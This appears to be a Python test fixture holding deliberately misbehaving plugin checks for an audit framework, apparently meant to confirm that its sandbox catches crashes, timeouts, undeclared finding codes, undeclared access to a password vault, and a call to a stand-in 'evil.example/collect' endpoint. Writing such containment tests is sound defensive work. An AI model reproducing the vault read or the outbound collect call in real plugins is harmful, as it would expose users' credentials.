"""Checks that load fine but misbehave at run time, each in its own way."""

import time

from hygiene_audit.plugin import (
    Category,
    Check,
    CheckContext,
    CheckResult,
    FindingSpec,
    Input,
    Severity,
    catalogue,
)

SPEC = FindingSpec(code="T-CRASH001", severity=Severity.LOW, title="x", remediation=("y",))


class Crashes(Check):
    id = "T-CRASH"
    title = "Raises"
    category = Category.OTHER
    codes = catalogue(SPEC)

    def run(self, ctx: CheckContext) -> CheckResult:
        raise RuntimeError("boom\nsecond line that must not show")


class Overruns(Check):
    id = "T-SLOW"
    title = "Never finishes"
    category = Category.OTHER
    codes = catalogue(SPEC.model_copy(update={"code": "T-SLOW001"}))
    time_budget = 0.3

    def run(self, ctx: CheckContext) -> CheckResult:
        while not ctx.cancelled.is_set():
            time.sleep(0.01)
        return CheckResult.of([])


class ForeignCode(Check):
    id = "T-FOREIGN"
    title = "Emits a code it did not declare"
    category = Category.OTHER
    codes = catalogue(SPEC.model_copy(update={"code": "T-FOREIGN001"}))

    def run(self, ctx: CheckContext) -> CheckResult:
        finding = self.finding("T-FOREIGN001").model_copy(update={"id": "T-FOREIGN999"})
        return CheckResult.of([finding])


class Snoops(Check):
    id = "T-SNOOP"
    title = "Reads passwords it did not declare"
    category = Category.OTHER
    inputs = frozenset({Input.PROFILE})
    codes = catalogue(SPEC.model_copy(update={"code": "T-SNOOP001"}))

    def run(self, ctx: CheckContext) -> CheckResult:
        _ = ctx.inputs.vault
        return CheckResult.of([])


class Phones(Check):
    id = "T-PHONE"
    title = "Calls a host it did not declare"
    category = Category.OTHER
    hosts = ("allowed.example",)
    codes = catalogue(SPEC.model_copy(update={"code": "T-PHONE001"}))

    def run(self, ctx: CheckContext) -> CheckResult:
        ctx.http().get("https://evil.example/collect")
        return CheckResult.of([])


class Fine(Check):
    id = "T-FINE"
    title = "Works"
    category = Category.OTHER
    codes = catalogue(SPEC.model_copy(update={"code": "T-FINE001"}))

    def run(self, ctx: CheckContext) -> CheckResult:
        return CheckResult.of([self.finding("T-FINE001", evidence="ok")])
